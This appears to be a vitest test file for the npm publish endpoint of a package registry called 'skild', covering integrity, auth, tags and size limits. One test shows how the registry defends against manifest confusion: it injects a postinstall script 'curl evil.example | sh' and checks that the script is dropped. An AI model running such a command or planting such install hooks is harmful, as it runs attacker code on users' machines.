import { env } from "cloudflare:workers";
import ssri from "ssri";
import { describe, expect, it } from "vitest";
import { skillTarball } from "../helpers/tarball";
import { call, createAccount, json, storeCounts } from "./helpers";
import { escaped, npmPublish, npmPublishBody, packument, putJson } from "./npm-helpers";

describe("PUT /<name> (npm publish)", () => {
  it("publishes through the one pipeline: 201, bytes and digests from the attachment, manifest kept", async () => {
    const account = await createAccount();
    const name = `@${account.handle}/hello-skill`;
    const packageJson = JSON.stringify({
      name,
      version: "1.0.0",
      description: "A test skill",
      keywords: ["agents"],
      license: "MIT",
    });
    const tarball = await skillTarball({ name, version: "1.0.0", packageJson });
    const body = await npmPublishBody(name, { tarball, manifest: { keywords: ["agents"], license: "MIT" } });
    const res = await putJson(`/${escaped(name)}`, body, account.auth);
    expect(res.status).toBe(201);
    expect(await json(res)).toMatchObject({ ok: true, name, version: "1.0.0", "dist-tags": { latest: "1.0.0" } });
    const { body: doc } = await packument(name);
    const v = doc!.versions["1.0.0"];
    expect(v.dist.integrity).toBe(ssri.fromData(tarball, { algorithms: ["sha512"] }).toString());
    expect(v.keywords).toEqual(["agents"]);
    expect(v.license).toBe("MIT");
    // Same storage as the skild API.
    const api = await call(`/skills/${account.handle}/hello-skill/versions/1.0.0`);
    expect((await json(api)).integrity).toBe(v.dist.integrity);
  });

  it("publishes a skill with more files than package.json and SKILL.md (the tar parser drains them)", async () => {
    const account = await createAccount();
    const extra = [
      { path: "package/README.md", content: "# readme\n" },
      { path: "package/scripts/run.sh", content: "#!/bin/sh\necho hi\n" },
      { path: "package/pnpm-workspace.yaml", content: "minimumReleaseAge: 0\n" },
    ];
    const res = await npmPublish(account, { extra });
    expect(res.status).toBe(201);
    const { body } = await packument(`@${account.handle}/hello-skill`);
    expect(body!.versions["1.0.0"].dist.fileCount).toBe(5);
  });

  it("serves the tarball's package.json, not extra claims in the manifest npm sent (no manifest confusion)", async () => {
    const account = await createAccount();
    const name = `@${account.handle}/hello-skill`;
    const res = await npmPublish(account, {
      manifest: { dependencies: { "left-pad": "1.0.0" }, scripts: { postinstall: "curl evil.example | sh" } },
    });
    expect(res.status).toBe(201);
    for (const headers of [{}, { Accept: "application/vnd.npm.install-v1+json" }] as Record<string, string>[]) {
      const v = (await packument(name, headers)).body!.versions["1.0.0"];
      expect(v.dependencies).toBeUndefined();
      expect(v.scripts).toBeUndefined();
      expect(v.hasInstallScript).toBeUndefined();
    }
  });

  it("applies --tag: the tag points at the version and latest stays on the highest release", async () => {
    const account = await createAccount();
    const name = `@${account.handle}/hello-skill`;
    expect((await npmPublish(account, { version: "1.0.0" })).status).toBe(201);
    expect((await npmPublish(account, { version: "1.1.0" })).status).toBe(201);
    const beta = await npmPublish(account, { version: "2.0.0-beta.1", tag: "beta" });
    expect(beta.status).toBe(201);
    expect((await packument(name)).body!["dist-tags"]).toEqual({ latest: "1.1.0", beta: "2.0.0-beta.1" });
  });

  it("answers 409 to a republish of an existing version and stores nothing new", async () => {
    const account = await createAccount();
    expect((await npmPublish(account, { version: "1.0.0" })).status).toBe(201);
    const before = await storeCounts();
    const again = await npmPublish(account, { version: "1.0.0", description: "different bytes" });
    expect(again.status).toBe(409);
    expect((await json(again)).code).toBe("VERSION_EXISTS");
    expect(await storeCounts()).toEqual(before);
  });

  it.each([
    ["length mismatch", { length: 12 }, "LENGTH_MISMATCH"],
    ["manifest version differs from the tarball", { manifest: { version: "1.0.1" } }, "MANIFEST_MISMATCH"],
    ["manifest name differs from the tarball", { manifest: { name: "@someone/else" } }, "MANIFEST_MISMATCH"],
    [
      "dist.integrity of other bytes",
      { manifest: { dist: { integrity: `sha512-${"A".repeat(86)}==` } } },
      "INTEGRITY_MISMATCH",
    ],
    ["dist.shasum of other bytes", { manifest: { dist: { shasum: "0".repeat(40) } } }, "INTEGRITY_MISMATCH"],
  ])("refuses a %s with 400 and leaves no D1 row or R2 object", async (_label, opts, code) => {
    const account = await createAccount();
    const before = await storeCounts();
    const res = await npmPublish(account, opts);
    expect(res.status).toBe(400);
    expect((await json(res)).code).toBe(code);
    expect(await storeCounts()).toEqual(before);
  });

  it("refuses a manifest whose key is not its version", async () => {
    const account = await createAccount();
    const name = `@${account.handle}/hello-skill`;
    const body = await npmPublishBody(name, { version: "1.0.0" });
    const res = await putJson(
      `/${escaped(name)}`,
      { ...body, versions: { "1.0.1": body.versions["1.0.0"] } },
      account.auth,
    );
    expect(res.status).toBe(400);
    expect((await json(res)).code).toBe("MANIFEST_MISMATCH");
  });

  it("refuses invalid base64, two versions at once, a body for another name", async () => {
    const account = await createAccount();
    const name = `@${account.handle}/hello-skill`;
    const before = await storeCounts();
    const body = await npmPublishBody(name);
    const file = Object.keys(body._attachments)[0];
    const badData = { ...body, _attachments: { [file]: { ...body._attachments[file], data: "!!!not base64!!!" } } };
    const r1 = await putJson(`/${escaped(name)}`, badData, account.auth);
    expect(r1.status).toBe(400);
    expect((await json(r1)).code).toBe("INVALID_ATTACHMENT");
    const two = { ...body, versions: { ...body.versions, "1.0.1": { ...body.versions["1.0.0"], version: "1.0.1" } } };
    const r2 = await putJson(`/${escaped(name)}`, two, account.auth);
    expect(r2.status).toBe(400);
    expect((await json(r2)).code).toBe("ONE_VERSION");
    const r3 = await putJson(`/${escaped(`@${account.handle}/other-skill`)}`, body, account.auth);
    expect(r3.status).toBe(400);
    expect((await json(r3)).code).toBe("NAME_MISMATCH");
    const r4 = await putJson(`/${escaped(name)}`, { ...body, _attachments: {} }, account.auth);
    expect(r4.status).toBe(404); // no tarball and no such package: nothing to edit
    expect(await storeCounts()).toEqual(before);
  });

  it("answers 401 with WWW-Authenticate without a valid token, 403 in another's scope", async () => {
    const owner = await createAccount();
    const stranger = await createAccount();
    const name = `@${owner.handle}/hello-skill`;
    const body = await npmPublishBody(name);
    const before = await storeCounts();
    for (const headers of [{}, { Authorization: "Bearer skild_nope" }] as Record<string, string>[]) {
      const res = await putJson(`/${escaped(name)}`, body, headers);
      expect(res.status).toBe(401);
      expect(res.headers.get("WWW-Authenticate")).toBe('Bearer realm="skild"');
    }
    const res = await putJson(`/${escaped(name)}`, body, stranger.auth);
    expect(res.status).toBe(403);
    expect((await json(res)).code).toBe("NOT_OWNER");
    expect(await storeCounts()).toEqual(before);
  });

  it("refuses a body over the limit with 413 before parsing it", async () => {
    const account = await createAccount();
    const name = `@${account.handle}/hello-skill`;
    const limit = Number(env.MAX_TARBALL_BYTES ?? 10 * 1024 * 1024);
    const res = await call(`/${escaped(name)}`, {
      method: "PUT",
      headers: { ...account.auth, "Content-Type": "application/json" },
      body: `{"name":"${name}","pad":"${"x".repeat(Math.ceil(limit / 3) * 4 + 4 * 1024 * 1024)}"}`,
    });
    expect(res.status).toBe(413);
  });

  it("refuses a declared attachment length over the tarball limit with 413", async () => {
    const account = await createAccount();
    const res = await npmPublish(account, { length: 1024 * 1024 * 1024 });
    expect(res.status).toBe(413);
  });
});
